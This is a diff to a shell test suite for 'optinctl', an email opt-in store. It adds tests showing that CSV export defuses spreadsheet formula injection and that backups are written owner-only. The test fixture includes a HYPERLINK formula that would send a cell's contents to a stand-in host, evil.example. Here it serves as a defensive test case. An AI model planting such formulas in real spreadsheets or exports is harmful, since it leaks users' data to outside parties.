@@ -279,6 +279,32 @@ is "import" "$rc $(verdict offers kate@example.com) $(verdict news leo@example.c
 run import "$TMP/load.csv"
 is "import again: unchanged" "$rc $(printf '%s\n' "$err" | grep -c 'added 0, updated 0, unchanged 2,')" "0 1"
 
+# --- export guards what spreadsheets would run (CSV injection); import reads it back ---
+printf '%s\n' 'address,list,source,policy_version' \
+    '-dash@example.com,offers,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",@pp' \
+    "mona@example.com,offers,'quoted,+1" > "$TMP/inject.csv"
+# inj NAME ARGS... : optinctl on the store NAME (made on first use), at $NOW
+inj() {
+    [ -e "$TMP/$1.conf" ] || { write_conf "$TMP/$1.conf" "$TMP/$1-db"; \
+        "$OPTINCTL" -c "$TMP/$1.conf" init > /dev/null 2>&1; }
+    n=$1; shift
+    "$OPTINCTL" -c "$TMP/$n.conf" -t "$NOW" -a tester "$@"
+}
+inj inject import "$TMP/inject.csv" > /dev/null 2> "$TMP/inj.err"
+is "import of cells that start like formulas" "$?" 0
+inj inject export -l offers > "$TMP/exported.csv" 2> /dev/null
+ok "... export writes the source with a leading apostrophe" \
+    grep -q "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"" "$TMP/exported.csv"
+ok "... and the address, the policy version and an apostrophe cell too" \
+    sh -c "grep -q \"^\\\"'-dash@example.com\\\"\" '$TMP/exported.csv' && grep -q \"'@pp\" '$TMP/exported.csv' \
+           && grep -q \"''quoted\" '$TMP/exported.csv' && grep -q \"'+1\" '$TMP/exported.csv'"
+ok "... no cell starts with = + - or @" sh -c "! grep -E '(^|,)\"?[=+@-]' '$TMP/exported.csv'"
+inj round import "$TMP/exported.csv" > /dev/null 2>&1
+inj round export -l offers > "$TMP/again.csv" 2> /dev/null
+is "... the export imports back to the same records (export of the copy is identical)" \
+    "$(cmp "$TMP/exported.csv" "$TMP/again.csv" 2>&1 && echo same)" same
+ok "... the source is stored as written" sh -c "'$OPTINCTL' -c '$TMP/round.conf' show -- -dash@example.com | grep -q 'source==HYPERLINK'"
+
 # --- stats ---
 # news: alice erin frank@spam grace frank@other henry user@jp mixed.case leo confirmed;
 # offers: carol kate confirmed, bob pending, alice dave unsubscribed.
@@ -304,6 +330,7 @@ else
 fi
 
 # --- backup ---
+umask 022
 expect "backup" 0 "backup written to $TMP/backup" backup "$TMP/backup"
 write_conf "$TMP/backup.conf" "$TMP/backup"
 answers() {
@@ -322,6 +349,8 @@ is "the answers compared are the expected ones" "$live" \
 # The live data.mdb may still hold the erased bytes in freed pages (LMDB does not wipe them,
 # see BUGS in optinctl(1)); the compacted copy holds only pages in use.
 ok "the backup's data file holds the live addresses" grep -a -q carol@example.com "$TMP/backup/data.mdb"
+is "... and only its owner may read it, whatever the umask (0600)" \
+    "$(stat -c %a "$TMP/backup/data.mdb")" 600
 ok "a forgotten address is not in the backup's data file" lacks ivan@example.org "$TMP/backup/data.mdb"
 expect_err "backup over a backup: EX_CANTCREAT" 73 "must be new or empty" backup "$TMP/backup"
 mkdir "$TMP/notempty" && echo keep > "$TMP/notempty/README"
